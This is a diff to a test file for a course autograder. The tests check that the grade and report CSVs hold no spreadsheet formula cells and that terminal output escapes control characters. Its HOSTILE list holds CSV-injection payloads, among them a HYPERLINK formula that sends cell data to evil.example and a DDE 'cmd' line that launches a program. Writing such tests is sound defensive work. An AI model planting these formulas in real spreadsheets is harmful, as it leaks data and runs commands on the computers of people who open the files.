@@ -15,13 +15,16 @@ from pathlib import Path
 
 import pytest
 
-from autograder import csvsafe
+from autograder.report import csvsafe
 from autograder.chapter_spec import ChapterSpec, ExerciseSpec
-from autograder.lms import write_lms_files
-from autograder.report import write_grades_csv, write_report_csv
-from autograder.similarity import (MIN_SHARED, THRESHOLD, Document, Flag, SimilarityReport,
+from autograder.report.lms import write_lms_files
+from autograder.report.tables import write_grades_csv, write_report_csv
+from autograder.results import ExerciseOutcome, FileRow, GradeResult
+from autograder.report.similarity import (MIN_SHARED, THRESHOLD, Document, Flag, SimilarityReport,
                                    compare_exercise, write_report)
-from autograder.submissions import printable
+from autograder.printable import printable
+from autograder.cli import main
+from tests.adversarial.chapters import FIXTURE, FIXTURES, released_copy
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -59,13 +62,13 @@ def spec() -> ChapterSpec:
 
 def test_every_csv_the_grader_writes_has_no_formula_cell(tmp_path: Path, spec: ChapterSpec
                                                         ) -> None:
-    results = [{"student_id": sid, "total": 2.0, "max_total": 5.0, "status": "graded",
-                "exercises": {"seq2seq.a": {"points": 2.0}, "seq2seq.b": {"points": 0.0}}}
+    results = [GradeResult(sid, "", "", "", "hardened", total=2.0, max_total=5.0, exercises={
+        "seq2seq.a": ExerciseOutcome("seq2seq.a", 2.0, 2.0, "passed"),
+        "seq2seq.b": ExerciseOutcome("seq2seq.b", 0.0, 3.0, "failed")})
                for sid in [*HOSTILE, "s1001"]]
     write_grades_csv(tmp_path / "grades.csv", spec, results)
     write_report_csv(tmp_path / "report.csv", [
-        {"file": f"{sid}/seq2seq.ipynb", "student_id": sid, "mapping": "=folder",
-         "status": "could not grade", "reason": "-not a notebook", "seconds": 1.5}
+        FileRow(f"{sid}/seq2seq.ipynb", sid, "=folder", "could not grade", "-not a notebook", 1.5)
         for sid in HOSTILE])
     pair, _ = compare_exercise("seq2seq.b", {HOSTILE[3]: COPIED, "@bob": COPIED + EXTRA}, None,
                                "", THRESHOLD, MIN_SHARED)
@@ -127,13 +130,8 @@ def test_grade_prints_no_raw_control_character_and_writes_safe_csvs(
         tmp_path: Path, monkeypatch, capsys) -> None:
     """``python -m autograder grade`` on files named with terminal escapes and a student folder
     named as a formula: the closing summary shows the names escaped, the CSVs as text."""
-    from autograder.cli import main
-    from autograder.paths import REPO, Chapter
-    from autograder.release import release
-
-    fixtures = REPO / "tests" / "fixtures"
-    chapter = Chapter("00-fixture", fixtures / "solutions", tmp_path / "release")
-    release([chapter])
+    fixtures = FIXTURES
+    chapter = released_copy(FIXTURE, tmp_path / "course")
     subs = tmp_path / "subs"
     subs.mkdir()
     (subs / f"{TERMINAL_HOSTILE}.ipynb").write_text("not json")
@@ -144,8 +142,7 @@ def test_grade_prints_no_raw_control_character_and_writes_safe_csvs(
     monkeypatch.setenv("AUTOGRADER_EXTRA_EXERCISES", str(fixtures / "exercises"))
     capsys.readouterr()
     main(["grade", "00", str(subs), "--out", str(tmp_path / "out"), "--no-progress",
-          "--source-root", str(chapter.source_root), "--release-root",
-          str(chapter.release_root)])
+          "--root", str(chapter.root)])
     out, err = capsys.readouterr()
     raw = [c for c in out + err
            if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
